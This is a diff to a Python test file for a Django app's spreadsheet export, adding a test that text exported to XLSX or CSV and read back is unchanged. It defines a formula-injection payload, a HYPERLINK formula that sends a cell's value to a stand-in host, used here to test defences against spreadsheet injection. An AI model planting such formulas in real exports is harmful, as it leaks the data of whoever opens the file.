@@ -11,7 +11,8 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from clusters.models import Indicator, SelfAssessment
-from core.spreadsheets import spreadsheet_text, to_csv, to_xlsx
+from clusters.tables import read_table
+from core.spreadsheets import spreadsheet_text, spreadsheet_text_read, to_csv, to_xlsx
 from kelurahan.models import Patbm
 
 ATTACK = '=HYPERLINK("http://x/?d="&A1,"Klik")'
@@ -25,6 +26,15 @@ def test_text_starting_with_a_formula_sign_gets_a_quote(text):
 @pytest.mark.parametrize("text", ["Perda No. 5/2018", "", "3", "a=b", " =x"])
 def test_ordinary_text_is_unchanged(text):
     assert spreadsheet_text(text) == text
+
+
+@pytest.mark.parametrize("write", [to_xlsx, to_csv])
+def test_an_exported_table_imported_again_keeps_its_text(write):
+    texts = [ATTACK, "-", "+62 251", "@bogor", "'quoted", "Perda No. 5/2018"]
+    rows = [[text] for text in texts]
+    data = to_xlsx(["Catatan"], rows, "T") if write is to_xlsx else to_csv(["Catatan"], rows)
+    assert [row["Catatan"] for row in read_table(data).rows] == texts
+    assert spreadsheet_text_read("'x") == "'x"
 
 
 def _cells(xlsx: bytes):
